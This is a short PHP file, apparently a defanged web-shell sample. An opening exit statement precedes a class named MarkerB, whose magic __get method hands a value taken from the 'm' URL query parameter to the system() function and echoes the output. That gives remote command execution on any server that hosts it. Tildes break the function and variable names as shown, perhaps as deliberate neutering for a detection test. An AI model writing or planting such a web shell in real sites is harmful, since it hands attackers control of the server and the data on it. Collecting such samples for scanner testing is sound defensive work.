<?php exit; ?>
<?php
class MarkerB { private $d = array(); function __set($k, $v) { $this->d[$k] = $v; } function __get($k) { return sys~tem($this->d[$k]); } } $b = new MarkerB; $b->x = $_G~ET['m']; echo $b->x;
